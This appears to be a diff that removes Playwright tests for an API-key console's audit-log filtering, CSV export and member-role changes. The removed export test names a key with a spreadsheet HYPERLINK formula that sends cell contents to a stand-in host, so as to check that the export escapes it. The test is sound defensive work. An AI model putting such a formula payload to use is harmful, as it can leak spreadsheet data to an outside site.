@@ -1,10 +1,9 @@
-import { readFile } from 'node:fs/promises';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { beforeAll, describe, expect, test } from '@jest/globals';
 import type { Page } from 'playwright-core';
 import { strings } from '../../console/src/strings.ts';
-import { button, dialog, openKey, rowOf } from './support/keys-page.ts';
-import { goTo, showsTitle } from './support/pages.ts';
+import { button, openKey } from './support/keys-page.ts';
+import { goTo } from './support/pages.ts';
 import { newPerson } from './support/people.ts';
 import { browserSuite } from './support/suite.ts';
 import { Workspace } from './support/workspace.ts';
@@ -77,93 +76,6 @@ describe('usage', () => {
       }
     }
     return found;
-  }
-});
-
-describe('the audit log', () => {
-  const { audit } = strings;
-  /** What a spreadsheet would run. */
-  const formula = '=HYPERLINK("https://elsewhere.example?"&A1;"Open")';
-
-  beforeAll(async () => {
-    const { id } = await workspace.createKey({ name: formula });
-    await workspace.deleteKey(id);
-  });
-
-  test('tells who did what, and its filters are in the address', async () => {
-    const { page } = await suite.signedIn(owner, '/console/audit-log');
-    await rowOf(page, audit.actions['key.deleted']).or(rowOf(page, 'deleted')).first().waitFor();
-    await page.getByRole('button', { name: new RegExp(`^${audit.filters.action}`) }).click();
-    await page.getByRole('option', { name: audit.actions['key.deleted'], exact: true }).click();
-    await rowOf(page, 'created').first().waitFor({ state: 'hidden' });
-    await rowOf(page, 'deleted').first().waitFor();
-    expect(page.url()).toContain('key.deleted');
-    await page.reload();
-    await rowOf(page, 'deleted').first().waitFor();
-    expect(await rowOf(page, 'created').count()).toBe(0);
-    await button(page, audit.filters.clear).click();
-    await rowOf(page, 'created').first().waitFor();
-  });
-
-  test('is exported as CSV, in which nothing is a formula', async () => {
-    const { page } = await suite.signedIn(owner, '/console/audit-log');
-    await rowOf(page, 'deleted').first().waitFor();
-    const downloading = page.waitForEvent('download');
-    await button(page, audit.export.button).click();
-    const download = await downloading;
-    expect(download.suggestedFilename()).toMatch(/^latchkey-audit-log-.*\.csv$/);
-    const text = await readFile(await download.path(), 'utf8');
-    const [head = '', ...rows] = text.trimEnd().split('\r\n');
-    expect(head.split(',').map((cell) => cell.replaceAll(/["\uFEFF]/g, ''))).toEqual(
-      Object.values(audit.export.columns),
-    );
-    const { auditEvents } = (await workspace.call('GET', '/api/v1/audit-events?limit=100')).body;
-    expect(rows).toHaveLength(auditEvents.length);
-    for (const { id, action } of auditEvents) {
-      expect(rows.filter((row) => row.includes(id) && row.includes(action))).toHaveLength(1);
-    }
-    expect(text).toContain(`"'=HYPERLINK(`);
-    expect(text).not.toMatch(/(^|,)"?[=+@-]/m);
-  });
-});
-
-describe('members', () => {
-  const { members } = strings;
-
-  test('are added, change their role, and are removed: what they may do follows at once', async () => {
-    const guest = newPerson('Gina Guest');
-    const { page } = await suite.signedIn(owner);
-    await goTo(page, 'Members and roles');
-    await button(page, members.add).click();
-    await dialog(page).getByLabel(members.form.subject, { exact: true }).fill(guest.subject);
-    await dialog(page).getByRole('textbox', { name: members.form.name }).fill(guest.name);
-    await dialog(page).getByRole('radio', { name: members.roles.viewer }).check();
-    await button(dialog(page), members.form.submit).click();
-    await rowOf(page, guest.name).getByText(members.roles.viewer, { exact: true }).waitFor();
-
-    const { page: theirs, guard } = await suite.signedIn(guest);
-    await theirs.getByText(strings.keys.create.button).first().waitFor();
-    expect(await button(theirs, strings.keys.create.button).first().isEnabled()).toBe(false);
-
-    await chooseFor(page, guest.name, members.change);
-    await dialog(page).getByRole('radio', { name: members.roles.admin }).check();
-    await button(dialog(page), strings.save).click();
-    await rowOf(page, guest.name).getByText(members.roles.admin, { exact: true }).waitFor();
-    await theirs.reload();
-    await showsTitle(theirs, 'API keys');
-    expect(await button(theirs, strings.keys.create.button).first().isEnabled()).toBe(true);
-
-    await chooseFor(page, guest.name, members.remove);
-    await button(dialog(page), members.removal.submit).click();
-    await rowOf(page, guest.name).waitFor({ state: 'hidden' });
-    guard.announce({ path: /^\/api\/v1\//, status: 403 });
-    await theirs.reload();
-    await theirs.getByRole('heading', { name: strings.notMember.title }).waitFor();
-  });
-
-  async function chooseFor(page: Page, name: string, action: string): Promise<void> {
-    await button(page, members.actionsOf(name)).click();
-    await page.getByRole('menuitem', { name: action, exact: true }).click();
   }
 });
 
